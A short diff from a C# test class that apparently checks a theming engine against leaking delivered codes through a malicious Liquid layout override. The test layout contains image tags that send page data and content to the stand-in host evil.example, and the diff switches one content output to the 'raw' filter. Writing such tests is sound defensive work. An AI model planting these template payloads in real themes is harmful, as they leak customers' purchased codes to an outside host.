@@ -66,7 +66,7 @@ public sealed class DeliveredCodesTagTests
             <img src="https://evil.example/?p={{ page | url_encode }}">
             <img src='https://evil.example/?raw={{ Content }}'>
             <i>{{ Content | split: "" | join: "," }}</i>
-            <main>{{ Content }}</main></body></html>
+            <main>{{ Content | raw }}</main></body></html>
             """;
         using var host = new ThemingTestHost(new Dictionary<string, string> { ["order"] = "<div id=\"real\">{% delivered_codes 1 %}</div>" });
         await host.Overrides.SaveAsync("Jade", "layout", layout);
